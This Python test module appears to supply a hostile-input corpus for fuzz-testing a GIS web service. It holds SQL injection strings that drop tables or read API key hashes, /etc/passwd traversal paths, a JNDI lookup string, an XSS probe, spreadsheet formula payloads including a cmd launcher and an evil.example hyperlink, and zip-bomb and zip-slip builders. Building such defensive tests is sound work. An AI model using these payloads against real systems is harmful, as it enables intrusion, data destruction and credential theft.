"""The hostile-input corpus, shared by the fuzz tests and anyone else who wants it.

Strings and bodies an attacker (or a broken client) sends, builders for the large ones
(zip bombs, zip-slip archives, 10^6-vertex polygons, deep nesting), and ``db_fingerprint``
to prove a refused request changed nothing.
"""
from __future__ import annotations

import io
import json
import zipfile

from sqlalchemy import text

SQL_INJECTION = [
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE projects; --", "projects'; --",
    "x'); DELETE FROM layer_meta; --", "1 UNION SELECT key_hash FROM api_keys --",
    "' UNION SELECT NULL, version() --", "'; SELECT pg_sleep(10); --", "$$; DROP TABLE projects; $$",
    "name) OR (1=1", "1/**/OR/**/1=1", "'||(SELECT key_hash FROM api_keys LIMIT 1)||'",
    "\\'; TRUNCATE parcel_check_reports; --", "%' OR '%'='", "id=1&id=2", "-1 OR 1=1",
    "1e309", "NaN", "-0", "9" * 40, "𝕏' OR 1=1 --", "\u202e' OR 1=1", "name\\", "'''", "\"\"\"",
]
# Property names and identifiers an injection would ride on (sortby / properties / ids).
SQL_IDENTIFIERS = ["name; DROP TABLE projects", "name--", "\"name\"", "name,(SELECT 1)", "-name)--",
                   "id DESC; DELETE FROM projects", "t.geom", "geom::text", "1", "*", "pg_sleep(5)"]
WEIRD_TEXT = ["", " ", "é", "中文名称", "\u200b", "\ufeff", "a" * 300, "\t\r\n", "\\x00", "%00", "%s%s%s",
              "{{7*7}}", "${jndi:ldap://x}", "<script>alert(1)</script>", "../../etc/passwd"]
CRS_VALUES = ["EPSG:999999", "EPSG:-1", "EPSG:4490; DROP TABLE projects", "http://evil.example/crs",
              "file:///etc/passwd", "EPSG:" + "9" * 30, "OGC:CRS84'--", "EPSG:2383", "EPSG:4214"]
BBOX_VALUES = ["1,2,3", "a,b,c,d", "1,2,3,4,5", "nan,nan,nan,nan", "inf,-inf,inf,-inf", "1e400,0,0,0",
               "0,0,0,0'; DROP TABLE projects; --", "," * 5, "-180,-90,180,90,1,2,3"]
DATETIME_VALUES = ["2019-13-45", "../..", "2019-01-01/", "/", "'; DROP TABLE projects; --",
                   "2019-01-01T25:61:61Z", "99999-01-01", "0000-00-00", "2019-01-01/2018-01-01/x"]
CQL2_FILTERS = [
    *(f"name = '{s}'" for s in SQL_INJECTION), "name = name; DROP TABLE projects",
    "1=1", "name LIKE '%' OR 1=1", "id IN (SELECT id FROM api_keys)", "S_INTERSECTS(geometry, 'x')",
    "pg_sleep(10) = 0", "status = 'x' -- comment", '{"op": "=", "args": [{"property": "name"}, "\' OR 1=1"]}',
    '{"op": "=", "args": [{"property": "name; DROP TABLE projects"}, 1]}', '{"op": "sql", "args": ["1=1"]}',
    "(" * 500 + "1=1" + ")" * 500, "NOT " * 2000 + "name = 'a'", "name = '" + "a" * 20_000 + "'",
]
BAD_JSON_TEXT = ["", "{", "[", "null", "1", "\"x\"", "{\"op\":", "NaN", "Infinity", "[" * 10_000, "{\"a\":" * 5000]
BAD_JSON_BYTES = [b"\xff\xfe\x00{", b"{\"type\": \"Point\", \"coordinates\": [\xff, 1]}", b"\xc0\xae\xc0\xae",
                  b"{\"type\": \"Po\xedlygon\"}", b"\x00" * 10, b"[" * 100_000]
MAP_LAYERS = ["../../etc/passwd", "projects'; DROP TABLE projects; --", "<script>", "projects," * 500, "%00"]


def deep_nesting(depth: int) -> bytes:
    """A GeoJSON-looking body nested ``depth`` arrays deep."""
    return b'{"type": "Polygon", "coordinates": ' + b"[" * depth + b"1, 2" + b"]" * depth + b"}"


def polygon(vertices: int, lon: float = 112.85, lat: float = 35.5, size: float = 0.002) -> dict:
    """A valid, closed ring with ``vertices`` positions (a sawtooth keeps it simple)."""
    n = max(3, vertices - 1)
    ring = [[lon + size * i / n, lat + (size / 10 if i % 2 else 0)] for i in range(n)]
    ring += [[lon + size, lat + size], [lon, lat + size], ring[0]]
    return {"type": "Polygon", "coordinates": [ring]}


def compact_polygon_body(vertices: int) -> bytes:
    """``vertices`` positions written as tightly as JSON allows (~7 bytes each)."""
    points = b",".join(b"[%d,%d]" % (i % 97, i % 89) for i in range(vertices))
    return b'{"type":"Polygon","coordinates":[[' + points + b"]]}"


GEOMETRY_BODIES = [
    b'{"type": "Polygon", "coordinates": [[[NaN, 1], [2, 3], [4, 5], [NaN, 1]]]}',
    b'{"type": "Polygon", "coordinates": [[[Infinity, 1], [2, 3], [4, 5], [Infinity, 1]]]}',
    b'{"type": "Polygon", "coordinates": [[[1e400, 1], [2, 3], [4, 5], [1e400, 1]]]}',
    b'{"type": "Point", "coordinates": [-Infinity, NaN]}',
    b'{"type": "Feature", "properties": [1, 2], "geometry": {"type": "Point", "coordinates": [112.85, 35.5]}}',
    b'{"wkt": "POLYGON((112.85 35.5, 112.86 35.5, 112.86 35.51, 112.85 35.5))", "properties": "x"}',
    b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": 7, "geometry": null}]}',
    b'{"type": "Polygon", "coordinates": "112.85,35.5"}', b'{"type": "Polygon", "coordinates": {"a": 1}}',
    deep_nesting(5000), *BAD_JSON_BYTES,
]
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what Excel/LibreOffice/WPS run as a formula
FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "=1+1"]
# Request targets sent byte-for-byte (no client-side normalisation): none may reach a file.
TRAVERSAL_TARGETS = [
    "/static/../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/static/..%252f..%252fetc%252fpasswd", "/static/....//....//etc/passwd",
    "/static/..\\..\\..\\etc\\passwd", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/static//etc/passwd",
    "/static/leaflet/../../../../../etc/passwd", "/static/%5c..%5c..%5cetc%5cpasswd",
    "/maps/..%2f..%2fetc%2fpasswd", "/maps/../../etc/passwd", "/maps/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/maps/overview.png/../../../etc/passwd", "/maps/..%2f..%2f..%2fgis_service%2fsettings.py",
    "/photos/..%2f..%2fetc%2fpasswd", "/photos/1/..%2f..%2f..%2fetc%2fpasswd", "/collections/..%2f..%2fetc%2fpasswd",
    "/collections/projects/items/..%2f..%2f..%2fetc%2fpasswd", "/static/..%2f..%2f.data%2fuploads",
    "/static/..%2f..%2fpyproject.toml", "/qgis/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd",
]
SECRETS = (b"root:x:0:0", b"[build-system]", b"BEGIN PRIVATE KEY", b"GIS_DATABASE_URL", b"postgresql://")


def zip_bytes(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(uncompressed_mb: int = 600) -> bytes:
    """A 'shapefile' whose .dbf inflates to ``uncompressed_mb`` MB of zeros (~0.6 MB zipped)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("parcels.shp", b"\x00" * 100)
        zf.writestr("parcels.shx", b"\x00" * 100)
        with zf.open("parcels.dbf", "w", force_zip64=True) as sink:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(uncompressed_mb):
                sink.write(chunk)
    return buffer.getvalue()


def zip_slip() -> bytes:
    square = json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"code": "A"}, "geometry": polygon(5)}]}).encode()
    return zip_bytes({"../../../../tmp/gis-zip-slip.geojson": square, "/tmp/gis-zip-slip-abs.geojson": square,
                      "..\\..\\gis-zip-slip-win.geojson": square})


# Tables whose rows a refused request may add: the audit log records refusals by design.
VOLATILE_TABLES = {"audit_log", "audit_chain_heads", "rate_limit_counters", "web_sessions", "spatial_ref_sys", "alembic_version"}


def db_fingerprint(conn) -> dict[str, str]:
    """md5 of every row of every data table (plus layer_meta's data_versions): equal before and
    after means the request changed nothing that matters."""
    tables = conn.execute(text("SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY 1")).scalars()
    fingerprint = {}
    for table in tables:
        if table in VOLATILE_TABLES:
            continue
        fingerprint[table] = conn.execute(text(
            f'SELECT count(*) || \':\' || coalesce(md5(string_agg(t::text, \'|\' ORDER BY t::text)), \'\') '
            f'FROM "{table}" t')).scalar()
    return fingerprint
